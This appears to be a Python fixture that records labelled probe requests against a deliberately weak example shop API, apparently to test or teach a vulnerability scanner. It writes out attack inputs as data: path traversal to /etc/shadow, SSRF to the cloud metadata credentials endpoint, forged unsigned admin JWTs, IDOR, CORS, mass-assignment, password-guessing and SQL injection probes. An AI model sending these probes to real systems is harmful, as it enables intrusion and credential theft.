"""Through the weak API; see `weak.py` on labels."""

from urllib.parse import quote

from examples.shop.store import NOW, PARTNER_TOKEN, SERVICE_KEY, jwt
from examples.tour.tape import Tape, as_json

API = "https://api.shop.example"
_CACHEABLE = ("info_disclosure", "likely:security_misconfiguration")  # private, yet public
_OPAQUE = f"Bearer {PARTNER_TOKEN[::-1]}"


def record(tape: Tape) -> None:
    for part in (_privacy, _cors, _tokens, _reach, _logic, _failures):
        part(tape)


def _privacy(tape: Tape) -> None:
    visit = tape.visit
    visit(f"GET {API}/v1/profile", *_CACHEABLE, authorization=_OPAQUE)
    visit(f"GET {API}/v1/users", "info_disclosure", authorization=_OPAQUE)
    for number in (17, 18):
        visit(
            f"GET {API}/v1/users/{number}",
            "info_disclosure",
            "hint:idor",
            authorization=_OPAQUE,
        )
    visit(f"GET {API}/v1/payments/88", "info_disclosure", "hint:idor", authorization=_OPAQUE)
    for number in (1001, 1002, 1003):
        visit(f"GET {API}/v1/orders/{number}", "hint:idor", authorization=_OPAQUE)
    for path in ("/v1/config", "/v1/keys/deploy", "/v1/internals"):
        visit(f"GET {API}{path}", "info_disclosure")


def _cors(tape: Tape) -> None:
    visit = tape.visit
    session = f"auth_token={'a41f' * 8}"
    for origin in ("https://evil.example", "null", "https://shop.example.evil.example"):
        visit(f"GET {API}/v1/me", "cors_misconfiguration", origin=origin, cookie=session)
    visit(
        f"OPTIONS {API}/v1/me",
        "cors_misconfiguration",
        origin="https://evil.example",
        access_control_request_method="PATCH",
    )
    visit(
        f"OPTIONS {API}/v1/me",
        "cors_misconfiguration",
        origin="null",
        access_control_request_method="DELETE",
    )
    visit(f"GET {API}/v1/contacts", "cors_misconfiguration", authorization=_OPAQUE)


def _tokens(tape: Tape) -> None:
    visit = tape.visit
    for kind in ("session", "profile", "device"):
        extra = ("info_disclosure",) if kind == "profile" else ()
        labels = ("jwt_weak", *(f"likely:{word}" for word in extra))
        visit(f"POST {API}/v1/token", *labels, send=as_json(kind=kind))
    unsigned = jwt({"sub": "anna", "role": "admin", "exp": NOW + 900}, signed=False)
    endless = jwt({"sub": "anna", "role": "customer", "iat": NOW})
    for token in (unsigned, endless):
        visit(f"GET {API}/v1/products?sort=name", "jwt_weak", authorization=f"Bearer {token}")
    visit(f"GET {API}/v1/products?sort=id&api_key={SERVICE_KEY}", "info_disclosure")
    short = jwt({"iss": "https://id.example", "sub": "anna", "iat": NOW, "exp": NOW + 900})
    visit(f"GET {API}/v1/pay?access_token={short}", "info_disclosure")
    for client in ("web", "app", "embed", "kiosk"):
        visit(f"POST {API}/v1/session/{client}", "session_cookie_flags", send=as_json(user="anna"))
    tape.cookies.pop("api.shop.example")


def _reach(tape: Tape) -> None:
    visit = tape.visit
    for name in ("../../etc/passwd", "..%2F..%2Fetc%2Fhosts", "..%5C..%5Cwindows%5Cwin.ini"):
        visit(f"GET {API}/v1/files?name={name}", "path_traversal", authorization=_OPAQUE)
    visit(
        f"GET {API}/v1/files?name=../../etc/shadow",
        "likely:path_traversal",
        "info_disclosure",
        authorization=_OPAQUE,
    )
    visit(f"GET {API}/v1/files?name=invoices/2026-0142.txt", authorization=_OPAQUE)
    metadata = "http://169.254.169.254/latest/meta-data/"
    visit(f"POST {API}/v1/preview", "ssrf", send=as_json(url=metadata), authorization=_OPAQUE)
    role = f"{metadata}iam/security-credentials/shop-web"
    visit(
        f"GET {API}/v1/fetch?url={quote(role, safe='')}",
        "ssrf",
        "info_disclosure",
        authorization=_OPAQUE,
    )
    inside = quote("http://localhost:9200/", safe="")
    visit(f"GET {API}/v1/fetch?url={inside}", "ssrf", authorization=_OPAQUE)
    outside = quote("https://cdn.example/about.txt", safe="")
    visit(f"GET {API}/v1/fetch?url={outside}", "hint:ssrf", authorization=_OPAQUE)
    for query in (
        "{__schema{queryType{name} types{name kind}}}",
        '{__type(name:"AdminUser"){name}}',
    ):
        visit(f"POST {API}/graphql", "info_disclosure", send=as_json(query=query))
    visit(f"POST {API}/graphql", "likely:info_disclosure", send=as_json(query="{admins{pasword}}"))


def _logic(tape: Tape) -> None:
    visit = tape.visit
    visit(
        f"PATCH {API}/v1/me",
        "mass_assignment",
        send=as_json(name="Anna", role="admin"),
        authorization=_OPAQUE,
    )
    visit(
        f"PATCH {API}/v1/me",
        "mass_assignment",
        send=as_json(phone="1", is_admin=True),
        authorization=_OPAQUE,
    )
    visit(f"PATCH {API}/v1/me", send=as_json(name="Anna B."), authorization=_OPAQUE)
    new = as_json(name="Eve", password="open-sesame-44", is_admin=True)
    visit(f"POST {API}/v1/users", "mass_assignment", send=new)
    visit(f"POST {API}/v1/orders", send=as_json(id=1, quantity=2), authorization=_OPAQUE)
    visit(
        f"POST {API}/v1/orders",
        "business_logic",
        send=as_json(id=1, quantity=-5),
        authorization=_OPAQUE,
    )
    for guess in ("spring", "summer", "autumn", "winter"):
        visit(
            f"POST {API}/v1/login",
            "hint:rate_limiting",
            send=as_json(user="anna", password=f"{guess}2026"),
        )
    visit(
        f"POST {API}/v1/login",
        "likely:authentication",
        send=as_json(user="nobody", password="spring2026"),
    )


def _failures(tape: Tape) -> None:
    for path in ("/v1/labels", "/v1/rates", "/v1/reports", "/v1/vips"):
        tape.visit(f"GET {API}{path}", "info_disclosure")
    tape.visit(f"GET {API}/v1/products?sort=name%27", "sql_injection", "likely:info_disclosure")
    tape.visit(f"GET {API}/v1/nothing")
